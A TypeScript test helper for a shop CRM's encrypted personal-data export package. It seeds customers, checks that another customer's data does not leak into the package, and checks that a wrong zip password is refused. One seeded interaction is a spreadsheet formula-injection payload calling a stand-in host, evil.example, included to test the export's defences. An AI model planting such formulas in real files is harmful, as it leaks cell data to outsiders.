import * as XLSX from '@e965/xlsx';
import { TextWriter, Uint8ArrayReader, Uint8ArrayWriter, ZipReader } from '@zip.js/zip.js';
import type { accessWorld } from './access-helpers';

export type World = Awaited<ReturnType<typeof accessWorld>>;

/** The second customer: every value distinct, none may appear in customer 1's package. */
export const OTHER = {
  name: '赵敏 Othername',
  mobile: '13700009999',
  email: 'other.person@example.net',
  wechat: 'other_wx_777',
  notes: 'OTHER-CUSTOMER-NOTE',
  addressDetail: 'Otherlane 5',
};
export const OTHER_TEXTS = ['OTHER-INTERACTION-TEXT', 'OTHER-PURCHASE-ITEM', 'OTHER-REMINDER-NOTE', 'SECRET-IMPORT-FILE'];

/**
 * Customer 1 (王伟, owned by sales1) gets two interactions (one a formula-looking text), a
 * purchase, a merge in and an import effect; customer 4 (OTHER) gets the same kinds, so a leak
 * of anything of theirs into customer 1's package would show.
 */
export async function seedPerson(world: World): Promise<{ otherId: number }> {
  const owner = world.caller('owner');
  const call = async (channel: string, input: unknown) => {
    const answer = await world.router.dispatch(owner, channel, input);
    if (!answer.ok) throw new Error(`${channel}: ${answer.error.code} ${answer.error.message}`);
    return answer.value as Record<string, unknown>;
  };
  await call('interactions.add', { customerId: 1, kind: 'call', at: '2026-11-20T10:00:00Z', summary: 'Asked about the spring tea' });
  await call('interactions.add', { customerId: 1, kind: 'note', at: '2026-11-21T10:00:00Z', summary: '=HYPERLINK("http://evil.example/?"&A1)' });
  await call('purchases.add', { customerId: 1, date: '2026-11-20', item: 'Green tea 500g', amountMinor: 12800, currency: 'CNY', note: 'gift wrap' });
  const duplicate = (await call('customers.create', { name: '王伟', mobile: '13912345678' })) as { id: number };
  await call('interactions.add', { customerId: duplicate.id, kind: 'visit', at: '2026-10-01T09:00:00Z', summary: 'Visited the shop (before the merge)' });
  await call('customers.merge', { survivorId: 1, ids: [1, duplicate.id], fields: {} });
  const other = (await call('customers.create', OTHER)) as { id: number };
  await call('interactions.add', { customerId: other.id, kind: 'call', at: '2026-11-22T10:00:00Z', summary: OTHER_TEXTS[0] });
  await call('purchases.add', { customerId: other.id, date: '2026-11-22', item: OTHER_TEXTS[1], amountMinor: 500, currency: 'CNY' });
  await call('reminders.add', { customerId: other.id, dueAt: '2026-12-05T09:00:00Z', note: OTHER_TEXTS[2] });
  // An import that touched customer 1 (and the other customer): its file name may name others and stays out.
  const db = world.core.vault.db();
  db.prepare(
    `INSERT INTO import_batches (id, user_id, file_name, file_sha256, format, encoding, mapping, choice, counts, state, started_at, finished_at)
     VALUES ('batch-1', ?, ?, 'abc', 'xlsx', NULL, '[]', 'update', '{}', 'complete', '2026-11-01T08:00:00.000Z', '2026-11-01T08:00:01.000Z')`,
  ).run(world.userIds.manager, `${OTHER_TEXTS[3]}.xlsx`);
  db.prepare("INSERT INTO import_effects (batch_id, row, customer_id, action, before, after_updated_at) VALUES ('batch-1', 2, 1, 'update', ?, '2026-11-01T08:00:01.000Z')").run(JSON.stringify({ notes: OTHER.notes }));
  db.prepare("INSERT INTO import_effects (batch_id, row, customer_id, action, before, after_updated_at) VALUES ('batch-1', 3, ?, 'new', NULL, '2026-11-01T08:00:01.000Z')").run(other.id);
  return { otherId: other.id };
}

export interface Opened {
  names: string[];
  json: { shop: string; requestId: number | null; contents: { section: string; rows: number }[]; sections: Record<string, Record<string, unknown>[]> };
  book: XLSX.WorkBook;
  /** Everything readable after decryption: the README, the JSON and every sheet's cells as CSV. */
  text: string;
}

/** Opens a package with zip.js (a second, independent reader is 7-Zip in its own test). */
export async function openPackage(bytes: Uint8Array, password: string): Promise<Opened> {
  const reader = new ZipReader(new Uint8ArrayReader(bytes), { useWebWorkers: false });
  const entries = await reader.getEntries();
  const byName = new Map(entries.map((e) => [e.filename, e]));
  const read = async (name: string) => {
    const entry = byName.get(name);
    if (!entry || entry.directory) throw new Error(`missing ${name}`);
    return entry.getData(new Uint8ArrayWriter(), { password });
  };
  const json = new TextDecoder().decode(await read('access-package.json'));
  const readme = new TextDecoder().decode(await read('README.txt'));
  const book = XLSX.read(await read('access-package.xlsx'), { type: 'array' });
  await reader.close();
  const sheets = book.SheetNames.map((name) => XLSX.utils.sheet_to_csv(book.Sheets[name]!));
  return { names: entries.map((e) => e.filename), json: JSON.parse(json) as Opened['json'], book, text: [readme, json, ...sheets].join('\n') };
}

/** Whether every entry is encrypted, and a wrong password is refused by zip.js. */
export async function refusesWrongPassword(bytes: Uint8Array): Promise<boolean> {
  const reader = new ZipReader(new Uint8ArrayReader(bytes), { useWebWorkers: false });
  const entries = await reader.getEntries();
  const first = entries[0];
  if (!first || first.directory || !entries.every((e) => e.encrypted)) return false;
  try {
    await first.getData(new TextWriter(), { password: 'AAAA-AAAA-AAAA-AAAA' });
    return false;
  } catch {
    return true;
  } finally {
    await reader.close();
  }
}
